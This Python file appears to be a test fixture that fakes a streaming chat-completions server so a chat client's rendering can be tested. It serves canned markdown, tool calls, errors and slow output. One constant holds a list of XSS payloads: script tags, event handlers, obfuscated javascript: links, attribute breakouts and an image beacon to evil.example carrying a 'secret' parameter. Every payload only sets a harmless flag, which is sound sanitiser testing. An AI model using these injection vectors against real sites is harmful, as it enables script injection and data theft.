"""What the made-up server answers, by words of the question; each answer as the bytes of an event stream."""

import json
import time

MARKDOWN = """# Light from ten candles

An **Argand lamp** has a *hollow* wick, so that air reaches the flame from ~~outside~~ *both* sides. See
[the history](https://example.org/lamp "A page") or https://example.org/a_b_c.

## What it needs

1. Oil of good quality
2. A wick, which is
   - woven round
   - trimmed `daily`
3. A chimney of glass

- [x] lit
- [ ] trimmed

> The light is steady and needs no snuffing.
>
> > Said an owner.

| part | material | price |
|:-----|:--------:|------:|
| burner | brass | 12.50 |
| chimney | glass \\| crystal | 3.20 |

```rust
/// How bright, in candles?
fn brightness(wicks: usize, draught: f64) -> f64 {
    let per_wick = 10.0; // a good one
    println!("{} wicks", wicks);
    wicks as f64 * per_wick * draught.min(1.0)
}
```

```python
@cached
def trim(wick: str, every: int = 24) -> None:
    \"\"\"Cut it straight.\"\"\"
    for hour in range(0, 100, every):
        print(f"at {hour}: {wick!r}")  # twice is better
```

The flux is $$\\Phi = \\int E \\, dA$$ over the wall.

---

That is all.
"""

HOSTILE = """<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) [again](JaVaScRiPt:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>)
[tab](java\tscript:window.hacked=6) <javascript:window.hacked=7> <a href="javascript:window.hacked=8">x</a>
![pixel](https://evil.example/steal.png?q=secret) ![x](x" onerror="window.hacked=9)

[quoted](https://example.org/"onmouseover="window.hacked=10)

```html"><script>window.hacked=11</script>
<svg onload="window.hacked=12">
```

| <b onmouseover=window.hacked=13>a</b> | b |
|---|---|
| <iframe srcdoc="<script>parent.hacked=14</script>"></iframe> | <style>*{display:none}</style> |

[ref]: javascript:window.hacked=15
"""


def event(value):
    return f"data: {value if isinstance(value, str) else json.dumps(value)}\n\n".encode()


def words(text):
    """Small pieces, cut also inside words as tokens are."""
    return [text[i : i + 6] for i in range(0, len(text), 6)]


def answer(asked, number, body):
    """The chunks of a stream. Pauses between them are part of the script."""
    head = {"id": f"chatcmpl-{number}", "object": "chat.completion.chunk", "created": 1_790_000_000, "model": body["model"]}

    def chunk(delta, finish=None):
        choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}
        return event({**head, "choices": [choice], "usage": None})

    pause, pieces, finish, thought = 0.004, words(f"Answer {number} to: {asked}"), "stop", []
    if "markdown" in asked:
        pieces = words(MARKDOWN)
    elif "hostile" in asked:
        pieces = words(HOSTILE)
    elif "slow" in asked:
        pause, pieces = 0.03, [f"word{i} " for i in range(400)]
    elif "lines" in asked:
        pause, pieces = 0.01, [f"Line {i} of a long answer.\n\n" for i in range(120)]
    elif "cut off" in asked:
        finish = "length"
    elif "think" in asked:
        thought = words("First I weigh the question. Then I find that **two** ways lead there.")
    elif "picture" in asked:
        pieces = words("I see a picture.")

    yield chunk({"role": "assistant", "content": ""})
    if "wait" in asked:
        time.sleep(1.5)
    for piece in thought:
        yield chunk({"reasoning_content": piece})
        time.sleep(0.01)
    if "tool" in asked:
        call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "get_weather", "arguments": ""}}
        yield chunk({"tool_calls": [call]})
        for part in ('{"city": "Gen', 'eva", "unit"', ': "celsius", "days": 3}'):
            yield chunk({"tool_calls": [{"index": 0, "function": {"arguments": part}}]})
        pieces, finish = [], "tool_calls"
    for i, piece in enumerate(pieces):
        if "fail midway" in asked and i == 3:
            yield event({"error": {"message": "The model ran out of memory.", "type": "server_error", "param": None, "code": None}})
            return
        if "lose line" in asked and i == 3:
            return
        # A character may be cut between two packets, and a comment may stand between events.
        raw = chunk({"content": piece})
        yield raw[:20] + b""
        yield raw[20:] + (b": still here\n\n" if i % 7 == 0 else b"")
        time.sleep(pause)
    yield chunk({}, finish)
    tokens = {"prompt_tokens": 20 + 7 * len(body["messages"]), "completion_tokens": len(pieces) + len(thought)}
    details = {"prompt_tokens_details": {"cached_tokens": 16}, "cost": {"amount": "0.000123", "currency": "EUR"}}
    yield event({**head, "choices": [], "usage": {**tokens, **details, "total_tokens": sum(tokens.values())}})
    yield event("[DONE]")
